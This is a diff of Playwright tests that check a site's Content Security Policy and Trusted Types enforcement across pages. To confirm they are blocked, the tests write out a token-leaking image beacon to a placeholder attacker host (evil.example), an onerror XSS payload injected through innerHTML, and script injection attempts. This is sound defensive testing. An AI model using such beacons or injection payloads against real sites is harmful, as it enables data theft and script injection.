@@ -16,26 +16,59 @@ test('pages have a policy that forbids inline code and eval', async ({ page }) =
       }),
     );
     // The page has one inline script, allowed by its hash: it must run before the first paint.
-    expect(rules.get('script-src'), path).toEqual(["'self'", expect.stringMatching(HASH)]);
+    const scripts = path === '/lab' ? ["'self'"] : ["'self'", expect.stringMatching(HASH)];
+    expect(rules.get('script-src'), path).toEqual(scripts);
     expect(rules.get('style-src'), path).toEqual(["'self'"]);
     expect(rules.get('default-src'), path).toEqual(["'self'"]);
     expect(rules.get('object-src'), path).toEqual(["'none'"]);
     expect(rules.get('base-uri'), path).toEqual(["'none'"]);
-    expect(rules.get('frame-ancestors'), path).toEqual(["'self'"]);
+    const frames = path === '/lab' ? "'self'" : "'none'";
+    expect(rules.get('frame-ancestors'), path).toEqual([frames]);
+    expect(rules.get('require-trusted-types-for'), path).toEqual(["'script'"]);
     expect(policy).not.toContain('unsafe');
   }
 });
 
-test('a violation of the policy fails every test here', async ({ page, noise }) => {
+test('a violation of the policy fails every test here: a picture carries nothing away', async ({
+  page,
+  noise,
+}) => {
   await page.goto('/');
   await page.evaluate(() => {
-    const script = document.createElement('script');
-    script.textContent = 'document.title = "breached"';
-    document.body.append(script);
+    new Image().src = 'https://evil.example/?token';
   });
-  await expect.poll(() => noise.join('\n')).toContain('policy: script-src-elem inline');
-  expect(await page.title()).not.toBe('breached');
+  await expect.poll(() => noise.join('\n')).toContain('policy: img-src https://evil.example/');
   noise.length = 0;
+});
+
+test.describe('a script', () => {
+  test.use({ expectedNoise: /requires 'Trusted|policy: require-trusted-types-for/ });
+
+  test('writes no markup but drawings, and no code', async ({ page }) => {
+    for (const path of ['/', '/lab']) {
+      await page.goto(path);
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      const written = await page.evaluate(() => {
+        const write = (act: () => void) => {
+          try {
+            act();
+            return 'written';
+          } catch {
+            return 'refused';
+          }
+        };
+        const box = document.createElement('div');
+        const script = document.createElement('script');
+        return [
+          write(() => (box.innerHTML = '<svg/>')),
+          write(() => (box.innerHTML = '<img src="/none.png" onerror="document.title = 1">')),
+          write(() => (script.textContent = 'document.title = 1')),
+          write(() => (script.src = 'https://evil.example/')),
+        ];
+      });
+      expect(written, path).toEqual(['written', 'refused', 'refused', 'refused']);
+    }
+  });
 });
 
 test('a page calls no other site', async ({ page, baseURL }) => {
